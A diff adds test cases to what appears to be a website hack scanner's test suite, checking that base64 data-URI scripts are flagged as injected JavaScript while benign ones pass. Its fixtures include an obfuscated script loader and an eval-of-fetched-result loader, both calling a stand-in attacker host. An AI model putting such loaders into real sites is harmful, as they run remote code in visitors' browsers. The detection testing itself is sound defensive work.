@@ -61,6 +61,36 @@ test.each([
   for (const { excerpt } of finding?.evidence ?? []) expect(home).toContain(excerpt)
 })
 
+const FETCHER =
+  "(async()=>{const r=await(await fetch('https://node7.evil-metrics.test/',{method:'POST',body:'eth_call'})).json();eval(atob(r.result.slice(130)))})();"
+
+test.each([
+  [
+    'numbered names',
+    `var _0x4af1=['${btoa('https://evil-metrics.test/x.js')}','createElement','script','src','appendChild','head'];(function(_0x1,_0x22){var s=document[_0x4af1[1]](_0x4af1[2]);s[_0x4af1[3]]=atob(_0x4af1[0]);document[_0x4af1[5]][_0x4af1[4]](s)})();`,
+  ],
+  ['a fetch whose answer is run', FETCHER],
+])('a script in an address of its own that brings in a stranger is named: %s', async (_, code) => {
+  const home = page({ foot: `<script src="data:text/javascript;base64,${btoa(code)}"></script>` })
+  const [finding] = await hacks(home)
+  expect(finding).toMatchObject({ code: 'hack.injected_js', verdict: 'confirmed' })
+  expect(home).toContain(finding?.evidence[0]?.excerpt)
+})
+
+test.each([
+  [
+    'what a cache plug-in puts off',
+    'var cart={"ajax_url":"/wp-admin/admin-ajax.php"};jQuery&&jQuery(document).ready(function(){});',
+  ],
+  [
+    'a known service',
+    "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly93d3cuZ29vZ2xldGFnbWFuYWdlci5jb20vZ3RtLmpz');document.head.appendChild(s)",
+  ],
+])('a script in an address of its own is no fault by itself: %s', async (_, code) => {
+  const packed = `<script src="data:text/javascript;base64,${btoa(code)}" defer></script>`
+  expect(await codesOf(page({ foot: packed }))).toEqual([])
+})
+
 test.each([
   [
     'the mark of a known campaign',
